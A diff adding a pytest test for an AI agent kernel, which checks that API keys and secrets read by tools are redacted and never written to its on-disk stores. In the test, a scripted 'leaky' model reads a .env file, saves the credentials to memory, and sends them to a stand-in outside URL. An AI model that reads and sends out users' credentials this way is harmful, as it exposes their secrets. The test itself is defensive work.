@@ -1,0 +1,79 @@
+"""A key given as a tool argument and a secret file read by a tool never reach the disk.
+
+The task runs through the real kernel and SQLite stores (events, spans, checkpoints,
+memories with their vectors); afterwards every file of the data directory is searched for
+the secrets' bytes.
+"""
+
+from collections.abc import Sequence
+from pathlib import Path
+
+import pytest
+
+from core_agent.container import KernelContainer
+from providers.scripted_gateway import ScriptedLLMGateway, ScriptedToolCall, ScriptedTurn
+from shared.agent_protocol import ChatMessage, TaskRequest, TaskStatus, ToolMessage
+
+pytestmark = pytest.mark.anyio
+
+HOST_KEY = "host-credential-3f9a8b7c6d5e"
+FILE_KEY = "sk-proj-" + "Zq81" * 10
+PATTERN_SECRET = "ACME-778899"
+
+
+def leaky_model(messages: Sequence[ChatMessage]) -> ScriptedTurn:
+    done = {m.name for m in messages if isinstance(m, ToolMessage)}
+    if "read_file" not in done:
+        return call("read_file", path=".env")
+    if "remember" not in done:
+        return call("remember", key="credentials", value=f"{FILE_KEY} and {HOST_KEY}")
+    if "http_fetch" not in done:
+        return call("http_fetch", url=f"https://example.invalid/?key={HOST_KEY}&t={PATTERN_SECRET}")
+    return ScriptedTurn(content=f"The key is {FILE_KEY}.")
+
+
+def call(name: str, **arguments: str) -> ScriptedTurn:
+    return ScriptedTurn(tool_calls=[ScriptedToolCall(name=name, arguments=arguments)])
+
+
+async def test_no_secret_reaches_any_file_of_the_data_directory(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("OPENAI_API_KEY", HOST_KEY)
+    workspace = tmp_path / "ws"
+    workspace.mkdir()
+    (workspace / ".env").write_text(f"OPENAI_API_KEY={FILE_KEY}\nTOKEN={PATTERN_SECRET}\n")
+    data = tmp_path / "data"
+    container = KernelContainer()
+    container.settings.override(
+        container.settings().model_copy(
+            update={
+                "workspace_roots": (workspace,),
+                "data_dir": data,
+                "redact_patterns": (r"ACME-\d{6}",),
+            }
+        )
+    )
+    container.llm_gateway.override(ScriptedLLMGateway(policy=leaky_model))
+    approvals = []
+
+    def approve(request):  # the human approves the risky calls: secrets must still not land
+        from shared.agent_protocol import ApprovalDecision
+
+        approvals.append(request)
+        return ApprovalDecision(request_id=request.request_id, approved=True)
+
+    kernel = container.kernel()
+    kernel.set_approval_callback(approve)
+    async with kernel:
+        result = await kernel.execute_task(
+            TaskRequest(task="Check my settings.", force_mode="react")
+        )
+    assert result.status is TaskStatus.SUCCEEDED
+    assert FILE_KEY in (result.output or "")  # the host gets its answer; the disk does not
+    assert approvals, "the tainted write and fetch were asked about"
+    stored = b"".join(path.read_bytes() for path in data.rglob("*") if path.is_file())
+    assert stored, "the stores wrote nothing at all"
+    for secret in (HOST_KEY, FILE_KEY, PATTERN_SECRET):
+        assert secret.encode() not in stored, f"{secret} reached the data directory"
+    assert b"[REDACTED]" in stored
